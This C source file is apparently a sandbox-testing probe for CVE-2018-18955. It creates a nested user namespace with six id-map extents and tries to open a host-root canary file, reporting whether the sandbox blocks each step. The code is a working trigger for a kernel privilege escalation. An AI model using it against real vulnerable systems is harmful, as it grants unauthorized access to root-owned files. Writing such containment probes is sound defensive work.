/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * CVE-2018-18955: on kernels 4.15 to 4.19.1 a user namespace whose id map had more than five
 * extents kept its reverse (kernel id to namespace id) table untranslated: the parent
 * namespace's ids stood in it as kernel ids.  Host root (kernel uid 0) then looked mapped in a
 * nested namespace whose map named the parent's id 0, and that namespace's root held
 * CAP_DAC_OVERRIDE over host-root files (Project Zero issue 1712; LTP userns08).  A sandbox
 * exposes the bug when its process may create a nested user namespace and write it a map of six
 * or more extents, which takes CAP_SETUID in the sandbox's namespace and six ids mapped there.
 */
#include "probe.h"

#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

#define EXTENTS 6

/* The lowest EXTENTS ids of this namespace's map FILE ("uid_map"), in order; the count of ids the
 * map holds (capped), or -errno. */
static long
first_ids(const char *file, unsigned long ids[EXTENTS])
{
	char path[64], buf[4096];
	snprintf(path, sizeof path, "/proc/self/%s", file);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -errno;
	ssize_t n = read(fd, buf, sizeof buf - 1);
	int e = errno;
	close(fd);
	if (n < 0)
		return -e;
	buf[n] = '\0';
	/* Extents are few (at most 340) and need not be sorted: pick the lowest ids greedily. */
	unsigned long total = 0;
	for (int k = 0; k < EXTENTS; k++) {
		bool found = false;
		unsigned long best = 0;
		for (char *l = buf; *l; l = strchr(l, '\n') ? strchr(l, '\n') + 1 : l + strlen(l)) {
			unsigned long in, out, len;
			if (sscanf(l, "%lu %lu %lu", &in, &out, &len) != 3 || len == 0)
				continue;
			/* This extent's smallest id above the last one taken. */
			unsigned long cand = k == 0 || ids[k - 1] < in ? in : ids[k - 1] + 1;
			if (cand - in < len && (!found || cand < best)) {
				best = cand;
				found = true;
			}
		}
		if (!found)
			break;
		ids[k] = best;
		total++;
	}
	return (long)total;
}

static void
format_map(char *out, size_t size, const unsigned long ids[EXTENTS])
{
	size_t o = 0;
	for (int i = 0; i < EXTENTS; i++)
		o += (size_t)snprintf(out + o, size - o, "%d %lu 1\n", i, ids[i]);
}

/* In the nested namespace: open the canary for reading, then for writing (never written).  The
 * reach is a descriptor to the canary itself. */
static void
try_canary(const struct sp_verb_call *v, const char *canary, const char *id)
{
	static const struct {
		const char *name;
		int flags;
	} modes[] = {{"read", O_RDONLY}, {"write", O_WRONLY | O_NOCTTY | O_NONBLOCK}};
	bool reached = false;
	char how[128] = "";
	size_t o = 0;
	for (size_t i = 0; i < sizeof modes / sizeof modes[0]; i++) {
		int fd = open(canary, modes[i].flags | O_CLOEXEC);
		int e = errno;
		struct stat st;
		bool it = fd >= 0 && fstat(fd, &st) == 0 && sp_id_matches(id, &st);
		if (fd >= 0)
			close(fd);
		reached |= it;
		o += (size_t)snprintf(how + o, sizeof how - o, "%s%s %s", o ? ", " : "",
				      modes[i].name,
				      it ? "opened" : (fd >= 0 ? "other-file" : sp_errname(e)));
	}
	sp_kv(v, "how", "%s", how);
	sp_kv(v, "reached", "%d", reached);
}

/*
 * userns-extents: a child unshares a user namespace; this process writes it uid and gid maps of
 * six one-id extents onto the lowest six ids of its own namespace (0..5 where it maps root), as
 * LTP userns08 does; the child, root in it with every capability there, then opens the harness's
 * `canary.locked` (a file of host root, mode 0600) for reading and for writing.  `nested` says
 * which step was refused (the pass), or `ok`.  Without the canary (an unprivileged harness cannot
 * plant a file of host root) the verb reports the steps and no reach.
 */
int
sp_verb_userns_extents(const struct sp_verb_call *v)
{
	const char *canary = sp_opt("canary.locked"), *id = sp_opt("canary.locked.id");
	unsigned long uids[EXTENTS], gids[EXTENTS];
	long nu = first_ids("uid_map", uids), ng = first_ids("gid_map", gids);
	if (nu < 0 || ng < 0)
		return sp_cannot(v, "reading /proc/self/uid_map or gid_map: %s",
				 sp_errname((int)-(nu < 0 ? nu : ng)));
	sp_kv(v, "canary", "%s", canary ? "planted" : "none");
	if (nu < EXTENTS || ng < EXTENTS) {
		sp_kv(v, "nested", "this user namespace maps %ld uid(s) and %ld gid(s), %d needed",
		      nu, ng, EXTENTS);
		sp_kv(v, "reached", "0");
		return SP_OBSERVED;
	}
	int go[2], ready[2];
	if (pipe2(go, O_CLOEXEC) != 0 || pipe2(ready, O_CLOEXEC) != 0)
		return sp_cannot(v, "pipe: %s", sp_errname(errno));
	pid_t pid = fork();
	if (pid < 0)
		return sp_cannot(v, "fork: %s", sp_errname(errno));
	if (pid == 0) {
		close(go[1]);
		close(ready[0]);
		int e = unshare(CLONE_NEWUSER) == 0 ? 0 : errno;
		/* The maps are written through /proc/PID: keep it ours (a credential change may
		 * have cleared the dumpable flag). */
		prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
		if (write(ready[1], &e, sizeof e) != (ssize_t)sizeof e || e != 0)
			_exit(0);
		char verdict = 0;
		if (read(go[0], &verdict, 1) == 1 && verdict == 'y' && canary != NULL)
			try_canary(v, canary, id);
		_exit(0);
	}
	close(go[0]);
	close(ready[1]);
	int e = -1;
	ssize_t n = read(ready[0], &e, sizeof e);
	close(ready[0]);
	char map[256], step[64] = "";
	if (n != (ssize_t)sizeof e) {
		snprintf(step, sizeof step, "the child did not report");
	} else if (e != 0) {
		snprintf(step, sizeof step, "unshare %s", sp_errname(e));
	} else {
		format_map(map, sizeof map, uids);
		if (!sp_write_proc(pid, "uid_map", map)) {
			snprintf(step, sizeof step, "uid_map %s", sp_errname(errno));
		} else {
			format_map(map, sizeof map, gids);
			if (!sp_write_proc(pid, "setgroups", "deny") ||
			    !sp_write_proc(pid, "gid_map", map))
				snprintf(step, sizeof step, "gid_map %s", sp_errname(errno));
		}
	}
	bool made = step[0] == '\0';
	sp_kv(v, "nested", "%s", made ? "ok" : step);
	if (made)
		sp_kv(v, "extents", "%d", EXTENTS);
	if (!made || canary == NULL)
		sp_kv(v, "reached", "0");
	/* The child prints the reach after these lines: it waits for the go.  When a step was
	 * refused it may be gone already (a write would raise SIGPIPE): end of file tells it. */
	if (made && write(go[1], "y", 1) != 1)
		(void)0;
	close(go[1]);
	return sp_wait_child(pid) ? SP_OBSERVED : sp_cannot(v, "child did not exit");
}
